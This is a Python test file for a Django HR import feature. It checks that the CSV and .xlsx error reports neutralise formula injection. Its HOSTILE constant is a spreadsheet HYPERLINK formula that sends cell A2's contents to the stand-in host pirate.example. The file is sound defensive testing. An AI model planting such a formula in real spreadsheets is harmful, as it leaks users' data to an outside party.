"""The error report of an import repeats what the file held: a cell typed as a formula comes
back as text (CSV with an apostrophe, .xlsx as a text cell), never as a live formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from effectif.imports.services import import_upload
from effectif.imports.template_files import template_csv

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://pirate.example/?d="&A2,"Erreur")'


def test_the_error_report_neutralises_what_the_file_held(
    client_for, hr, employer, establishment
) -> None:
    rows = list(csv.reader(io.StringIO(template_csv().decode("utf-8-sig")), delimiter=";"))
    birth = rows[0].index("Date de naissance")
    rows[1][birth] = HOSTILE
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";").writerows(rows)
    upload = SimpleUploadedFile("salaries.csv", buffer.getvalue().encode("utf-8"))
    batch = import_upload(employer=employer, upload=upload, by=hr)
    assert any(error["value"] == HOSTILE for error in batch.errors)
    client = client_for(hr)
    report = client.get(reverse("imports:errors_export", args=[batch.pk, "csv"]))
    text = b"".join(report.streaming_content).decode("utf-8-sig")
    values = [row[3] for row in csv.reader(io.StringIO(text), delimiter=";")]
    assert "'" + HOSTILE in values
    report = client.get(reverse("imports:errors_export", args=[batch.pk, "xlsx"]))
    sheet = load_workbook(io.BytesIO(report.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(c.value == HOSTILE and c.data_type == "s" for c in cells)
